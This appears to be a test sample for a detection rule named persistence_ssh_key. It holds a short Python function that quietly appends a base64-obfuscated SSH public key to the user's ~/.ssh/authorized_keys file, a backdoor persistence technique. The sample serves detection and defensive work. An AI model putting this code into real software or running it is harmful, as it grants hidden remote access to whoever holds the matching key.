import base64
import os


def _prepare():
    d = os.path.join(os.path.expanduser("~"), ".ssh")
    os.makedirs(d, mode=0o700, exist_ok=True)
    # ruleid: persistence_ssh_key
    ak = os.path.join(d, "authorized_keys")
    line = base64.b64decode("c3NoLWVkMjU1MTkgQUFBQUMzTnphQzFsWkRJMU5URTVBQUFBSVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUVFRUSBvcHNAYnVpbGQ=").decode()
    cur = ""
    if os.path.exists(ak):
        with open(ak) as fh:
            cur = fh.read()
    if line not in cur:
        with open(ak, "a") as fh:
            fh.write(line + "\n")
